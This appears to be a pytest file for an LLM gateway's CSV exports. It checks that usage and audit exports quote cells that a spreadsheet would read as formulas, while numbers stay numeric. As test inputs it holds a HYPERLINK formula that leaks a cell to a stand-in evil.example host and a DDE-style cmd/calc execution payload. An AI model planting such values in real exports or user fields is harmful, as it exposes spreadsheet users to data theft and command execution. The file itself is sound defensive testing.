"""CSV exports open in a spreadsheet as data: a text cell that starts like a formula
(``=``, ``+``, ``-``, ``@``, tab, carriage return) is quoted with a leading ``'``, in the
tenant's and the operator's usage exports and in the audit log's; numbers stay numbers
(real PostgreSQL and Redis; the fake vLLM server generates)."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import asyncpg
from litestar import Litestar
from litestar.testing import AsyncTestClient

from app.http.csv_export import neutralised
from app.settings import Settings
from tests.support import (
    UNLIMITED,
    bearer,
    create_key,
    create_tenant,
    metering_done,
    plain_dsn,
)

Client = AsyncTestClient[Litestar]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
# Through the chat API (the validation lets these through: no control characters).
# The plain name is this run's own: the operator's export adds up every tenant's "ann".
PLAIN = f"ann-{uuid.uuid4().hex[:8]}"
CHATTING = (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", PLAIN)
# Only an older process could have stored these (tab and CR are refused now).
STORED_DIRECTLY = ("\t=1+2", "\r=1+2")


async def insert_usage(settings: Settings, tenant_id: str, end_user: str,
                       cost_usd: str) -> None:
    conn = await asyncpg.connect(plain_dsn(settings.database.owner_url()))
    try:
        await conn.execute(
            "INSERT INTO usage_events (tenant_id, request_id, kind, end_user, model, "
            "latency_ms, status, cost_usd, created_at) VALUES ($1, $2, 'chat', $3, 'm', 1, "
            "'ok', $4::numeric, now())", uuid.UUID(tenant_id), uuid.uuid4().hex, end_user,
            cost_usd)
    finally:
        await conn.close()


def table(resp: Any) -> dict[str, dict[str, str]]:
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("text/csv")
    reader = csv.reader(io.StringIO(resp.text, newline=""))
    header = next(reader)
    return {row[0]: dict(zip(header, row, strict=True)) for row in reader}


async def test_usage_exports_quote_formula_cells_and_keep_numbers_numeric(
    client: Client, admin_headers: dict[str, str], settings: Settings, routed: None,
) -> None:
    tenant = await create_tenant(client, admin_headers, **UNLIMITED)
    chat = bearer((await create_key(client, admin_headers, tenant["id"], ["chat"]))["key"])
    admin = bearer((await create_key(client, admin_headers, tenant["id"], ["admin"]))["key"])
    for user in CHATTING:
        resp = await client.post("/v1/chat/completions", headers=chat, json={
            "model": "smollm2", "max_tokens": 4, "user": user, "store": False,
            "messages": [{"role": "user", "content": "hi"}]})
        assert resp.status_code == 200, resp.text
    for user in STORED_DIRECTLY:
        await insert_usage(settings, tenant["id"], user, "0")
    await insert_usage(settings, tenant["id"], "refund", "-0.5")  # a negative number
    await metering_done()
    tenants_own = table(await client.get("/v1/usage", headers=admin,
                                         params={"group_by": "user", "format": "csv"}))
    operators = table(await client.get("/admin/usage", headers=admin_headers,
                                       params={"group_by": "user", "format": "csv"}))
    for rows in (tenants_own, operators):
        for user in (*CHATTING[:-1], *STORED_DIRECTLY):
            assert "'" + user in rows, sorted(rows)  # shown as text, never run
            assert user not in rows
        assert rows[PLAIN]["requests"] == "1"  # plain text as it was
        assert rows["refund"]["cost_usd"].startswith("-0.5")  # a number, not quoted
        assert rows["'" + HYPERLINK]["requests"] == "1"
    # JSON is unchanged: the quote is for spreadsheets only.
    as_json = (await client.get("/v1/usage", headers=admin,
                                params={"group_by": "user"})).json()
    assert HYPERLINK in {r["key"] for r in as_json["data"]}


async def test_the_audit_export_quotes_a_request_id_that_reads_as_a_formula(
    client: Client, admin_headers: dict[str, str],
) -> None:
    tenant = await create_tenant(client, admin_headers)
    admin = bearer((await create_key(client, admin_headers, tenant["id"], ["admin"]))["key"])
    # A valid X-Request-Id that Excel reads as "= minus A1:B2".
    minted = await client.post("/v1/keys", headers={**admin, "X-Request-Id": "-A1:B2"},
                               json={"name": "ci", "scopes": ["admin"]})
    assert minted.status_code == 201, minted.text
    resp = await client.get("/v1/audit", headers=admin, params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
    assert "'-A1:B2" in [r["request_id"] for r in rows], rows


def test_only_text_cells_are_neutralised() -> None:
    assert neutralised(-1) == -1 and neutralised(-0.5) == -0.5
    assert [neutralised(c) for c in ("=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "")] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", ""]
